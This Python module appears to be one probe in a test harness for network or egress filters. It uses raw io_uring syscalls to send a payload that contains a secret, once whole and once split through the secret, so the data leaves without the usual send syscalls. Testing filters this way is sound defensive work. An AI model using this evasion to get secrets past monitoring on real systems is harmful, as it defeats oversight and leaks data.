"""Sent by io_uring, which enters the socket without a system call for sending.

`zero_copy: true` uses IORING_OP_SEND_ZC.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct

from attacks.connection import drained, give_up
from attacks.inner import libc
from attacks.target import Impossible, Target, refused

SYS_SETUP, SYS_ENTER = 425, 426
OFF_SQ_RING, OFF_SQES = 0, 0x10000000
OP_SEND, OP_SEND_ZC = 26, 47
GETEVENTS = 1
ENTRIES = 8
PARAMETERS = 120  # sizeof(struct io_uring_params)
SQE = 64


class Ring:
    """A submission ring with one request at a time."""

    def __init__(self) -> None:
        parameters = ctypes.create_string_buffer(PARAMETERS)
        self.fd = libc.syscall(SYS_SETUP, ENTRIES, parameters)
        if self.fd < 0:
            raise Impossible(f"io_uring_setup: {os.strerror(ctypes.get_errno())}")
        # struct io_sqring_offsets at 40: head, tail, ring_mask, ring_entries, flags, dropped, array
        offsets = struct.unpack_from("=7I", parameters.raw, 40)
        self._tail, self._array = offsets[1], offsets[6]
        self._ring = mmap.mmap(self.fd, self._array + ENTRIES * 4, offset=OFF_SQ_RING)
        self._sqes = mmap.mmap(self.fd, ENTRIES * SQE, offset=OFF_SQES)

    def send(self, out: socket.socket, data: bytes, *, zero_copy: bool) -> None:
        """One request to send, carried out."""
        buffer = ctypes.create_string_buffer(data, len(data))
        operation = OP_SEND_ZC if zero_copy else OP_SEND
        request = struct.pack(
            "=BBHiQQI", operation, 0, 0, out.fileno(), 0, ctypes.addressof(buffer), len(data)
        )
        [tail] = struct.unpack_from("=I", self._ring, self._tail)
        slot = tail % ENTRIES
        self._sqes[slot * SQE : (slot + 1) * SQE] = request.ljust(SQE, b"\0")
        struct.pack_into("=I", self._ring, self._array + slot * 4, slot)
        struct.pack_into("=I", self._ring, self._tail, tail + 1)
        if libc.syscall(SYS_ENTER, self.fd, 1, 1, GETEVENTS, None, 0) < 0:
            raise Impossible(f"io_uring_enter: {os.strerror(ctypes.get_errno())}")


def main(target: Target) -> None:
    """Whole, and in halves."""
    ring = Ring()
    cut = target.payload.index(target.secret) + len(target.secret) // 2
    for parts in ((target.payload,), (target.payload[:cut], target.payload[cut:])):
        made = target.tcp()
        try:
            with refused():
                for part in parts:
                    ring.send(made, part, zero_copy=bool(target.args.get("zero_copy")))
                    drained(made, 0.05)
            drained(made)
        finally:
            give_up(made)
